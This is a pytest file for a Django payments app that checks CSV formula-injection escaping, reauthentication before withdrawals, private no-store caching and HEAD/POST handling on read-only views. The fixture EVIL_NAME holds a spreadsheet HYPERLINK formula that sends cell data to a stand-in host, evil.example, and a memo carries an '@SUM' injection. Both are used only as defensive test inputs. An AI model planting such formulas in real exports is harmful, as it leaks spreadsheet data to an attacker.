"""Issue 9 in payments: CSV formula injection, a recent login for money actions, private caching of money
pages and downloads, GET-only views that answer HEAD."""

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
import time_machine
from allauth.account import app_settings as allauth_settings
from django.utils import timezone

from accounts.models import AccountChange
from common.csv import amount, safe_cell
from payments import services
from payments.models import PayoutDetails, Withdrawal
from tests.factories import PASSWORD, UserFactory, in_group, verified
from tests.support import fund, snapshot

from .signin import sign_in

pytestmark = pytest.mark.django_db

EVIL_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Pay")'


@pytest.fixture
def support(db):
    return in_group(verified(UserFactory()), "Support")


def card(user, holder_name="Pat Doe"):
    """Payout details whose one-week lock is already over."""
    services.payout_details_save(user=user, holder_name=holder_name, card_last4="1234")
    AccountChange.objects.filter(user=user).update(created_at=timezone.now() - timedelta(days=8))


def rows_of(content):
    return list(csv.reader(io.StringIO(content.decode())))


def after_the_window():
    """A moment just past allauth's reauthentication window, counted from now."""
    seconds = allauth_settings.REAUTHENTICATION_TIMEOUT + 1
    return time_machine.travel(timezone.now() + timedelta(seconds=seconds), tick=False)


# --- CSV formula injection ---------------------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_get_a_quote(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


def test_csv_ordinary_text_and_numbers_are_left_alone():
    assert safe_cell("Pat Doe") == "Pat Doe" and safe_cell("order:7") == "order:7"
    assert safe_cell(-5) == -5 and safe_cell(amount(-1250)) == Decimal("-12.50")
    assert str(amount(-1250)) == "-12.50" and str(amount(5)) == "0.05"


def test_payout_batch_csv_neutralises_a_formula_in_the_card_holder_name(client, user, support):
    fund(user, 5000)
    card(user, holder_name=EVIL_NAME)
    withdrawal = services.withdrawal_request(user=user, amount_cents=2000)
    services.withdrawal_approve(withdrawal=withdrawal, staff_user=support)
    batch = services.payout_batch_run(force=True)
    client.force_login(support)
    response = client.get(f"/backoffice/withdrawals/batches/{batch.pk}.csv")
    assert response.status_code == 200 and response["Content-Type"] == "text/csv"
    header, row = rows_of(response.content)
    assert row[header.index("card_holder")] == "'" + EVIL_NAME
    assert row[header.index("amount")] == "20.00" and row[header.index("payout")] == "19.10"


def test_statement_csv_neutralises_formulas_and_keeps_negative_amounts_numbers(user_client, user, support):
    fund(user, 5000)
    card(user)
    withdrawal = services.withdrawal_request(user=user, amount_cents=2000)
    services.withdrawal_reject(withdrawal=withdrawal, staff_user=support, reason="@SUM(1+1) call support")
    response = user_client.get("/balance/statement.csv")
    header, *rows = rows_of(b"".join(response.streaming_content))
    memos = [row[header.index("memo")] for row in rows]
    assert "'@SUM(1+1) call support" in memos and "@SUM(1+1) call support" not in memos
    assert "-20.00" in [row[header.index("amount")] for row in rows]  # a number, not '-20.00


# --- money actions want a recent login ---------------------------------------------------------------------


def test_a_fresh_login_can_save_payout_details_and_withdraw(client, user):
    sign_in(client, user)
    fund(user, 5000)
    response = client.post("/balance/payout-card/", {"holder_name": "Pat Doe", "card_last4": "4321"})
    assert response.status_code == 302 and response["Location"] == "/balance/withdraw/"
    AccountChange.objects.filter(user=user).update(created_at=timezone.now() - timedelta(days=8))
    response = client.post("/balance/withdraw/", {"amount": "20"})
    assert response.status_code == 302 and Withdrawal.objects.get().amount_cents == 2000


def test_an_old_session_is_sent_to_reauthenticate_and_nothing_changes(client, user):
    sign_in(client, user)
    fund(user, 5000)
    card(user)
    before = (snapshot(), list(PayoutDetails.objects.values_list("pk", "card_last4")))
    with after_the_window():
        response = client.post("/balance/withdraw/", {"amount": "20"})
        assert response.status_code == 302
        assert response["Location"].startswith("/accounts/reauthenticate/")
        assert "next=%2Fbalance%2Fwithdraw%2F" in response["Location"]
        response = client.post("/balance/payout-card/", {"holder_name": "Mallory", "card_last4": "6666"})
        assert response["Location"].startswith("/accounts/reauthenticate/")
        assert client.get("/balance/withdraw/").status_code == 200  # reading the page needs no password
    assert not Withdrawal.objects.exists()
    assert (snapshot(), list(PayoutDetails.objects.values_list("pk", "card_last4"))) == before


def test_a_session_without_any_login_record_must_reauthenticate(user_client, user):
    fund(user, 5000)
    card(user)
    response = user_client.post("/balance/withdraw/", {"amount": "20"})
    assert response["Location"].startswith("/accounts/reauthenticate/")
    assert not Withdrawal.objects.exists()


def test_typing_the_password_again_completes_the_withdrawal(client, user):
    sign_in(client, user)
    fund(user, 5000)
    card(user)
    with after_the_window():
        asked = client.post("/balance/withdraw/", {"amount": "20"})
        response = client.post(asked["Location"], {"password": PASSWORD})
    assert response.status_code == 302
    assert Withdrawal.objects.get().amount_cents == 2000


# --- private caching, safe methods -------------------------------------------------------------------------


def test_money_pages_and_downloads_are_private_and_not_stored(user_client, client, user, support):
    fund(user, 5000)
    for url in ("/balance/", "/balance/withdraw/", "/balance/add/", "/referrals/", "/balance/statement.csv"):
        cache_control = user_client.get(url).headers.get("Cache-Control", "")
        assert "private" in cache_control and "no-store" in cache_control, url
    card(user)
    withdrawal = services.withdrawal_request(user=user, amount_cents=2000)
    services.withdrawal_approve(withdrawal=withdrawal, staff_user=support)
    batch = services.payout_batch_run(force=True)
    client.force_login(support)
    for url in ("/backoffice/withdrawals/", f"/backoffice/withdrawals/batches/{batch.pk}.csv"):
        cache_control = client.get(url).headers.get("Cache-Control", "")
        assert "private" in cache_control and "no-store" in cache_control, url


def test_read_only_pages_answer_head_and_refuse_post(user_client):
    for url in ("/balance/", "/balance/statement.csv", "/referrals/"):
        assert user_client.head(url).status_code == 200, url
        assert user_client.post(url).status_code == 405, url
